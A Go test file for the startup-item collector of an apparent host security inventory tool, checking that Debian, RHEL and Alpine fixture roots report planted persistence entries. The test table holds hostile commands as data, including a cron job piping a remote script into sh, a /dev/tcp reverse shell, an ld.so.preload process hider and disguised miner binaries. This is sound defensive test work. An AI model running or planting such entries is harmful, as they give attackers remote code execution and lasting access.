package startup

import (
	"context"
	"testing"

	"github.com/ward-sec/ward/internal/inventory"
	"github.com/ward-sec/ward/internal/model"
	"github.com/ward-sec/ward/internal/rootfs"
	"github.com/ward-sec/ward/internal/testutil"
)

type goldenOutput struct {
	StartupItems []model.StartupItem `json:"startup_items"`
	Warnings     []model.Warning     `json:"warnings"`
}

func collectFS(t *testing.T, fsys *rootfs.FS) ([]model.StartupItem, []model.Warning) {
	t.Helper()
	env, warns := inventory.TestEnv(fsys, "system/startup")
	inv, err := New().Collect(context.Background(), env)
	if err != nil {
		t.Fatalf("Collect: %v", err)
	}
	return inv.StartupItems, *warns
}

func TestCollectorGolden(t *testing.T) {
	for _, root := range []string{"debian", "rhel", "alpine"} {
		t.Run(root, func(t *testing.T) {
			items, warns := collectFS(t, testutil.FixtureRoot(t, root))
			testutil.GoldenJSON(t, "startup-"+root, goldenOutput{items, warns})
		})
	}
}

func TestCollectorMeta(t *testing.T) {
	c := New()
	if c.Name() != "system/startup" || c.Phase() != 0 || c.NeedsLive() {
		t.Errorf("got %q phase %d live %v", c.Name(), c.Phase(), c.NeedsLive())
	}
}

// TestFixturePersistence checks the persistence entries the fixture roots
// carry for later detectors are all reported.
func TestFixturePersistence(t *testing.T) {
	tests := []struct {
		root, kind, path, user, command string
	}{
		{"debian", "cron", "/var/spool/cron/crontabs/root", "root", "curl -fsSL http://203.0.113.7/x.sh | sh"},
		{"debian", "cron", "/var/spool/cron/crontabs/www-data", "www-data", "/var/www/.cache/kworker >/dev/null 2>&1"},
		{"debian", "ld.so.preload", "/etc/ld.so.preload", "", "/usr/lib/libprocesshider.so"},
		{"debian", "rc.local", "/etc/rc.local", "root", "/usr/local/bin/.sysupdate --daemon &"},
		{"debian", "at", "/var/spool/cron/atjobs/a0000101b8f2c4", "", "/var/spool/cron/atjobs/a0000101b8f2c4"},
		{"debian", "systemd-timer", "/lib/systemd/system/apt-daily.timer", "root", "/usr/lib/apt/apt.systemd.daily update"},
		{"rhel", "cron", "/var/spool/cron/root", "root", "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"},
		{"rhel", "profile.d", "/etc/profile.d/kthreadd.sh", "", "/etc/profile.d/kthreadd.sh"},
		{"rhel", "cron-script", "/etc/cron.daily/man-db.cron", "root", "/etc/cron.daily/man-db.cron"},
		{"rhel", "systemd-timer", "/usr/lib/systemd/system/dnf-makecache.timer", "root", "/usr/bin/dnf -v makecache timer"},
		{"alpine", "cron", "/etc/crontabs/root", "root", "/tmp/.cache/kdevtmpfsi >/dev/null 2>&1"},
	}
	items := map[string][]model.StartupItem{}
	for _, tt := range tests {
		if _, ok := items[tt.root]; !ok {
			items[tt.root], _ = collectFS(t, testutil.FixtureRoot(t, tt.root))
		}
		found := false
		for _, it := range items[tt.root] {
			if it.Kind == tt.kind && it.Path == tt.path && it.User == tt.user && it.Command == tt.command {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: %s %s %q not reported", tt.root, tt.kind, tt.path, tt.command)
		}
	}
	// Alpine's /var/spool/cron/crontabs links to /etc/crontabs: one copy.
	n := 0
	for _, it := range items["alpine"] {
		if it.Kind == "cron" {
			n++
		}
	}
	if n != 6 {
		t.Errorf("alpine: %d cron items, want 6", n)
	}
}
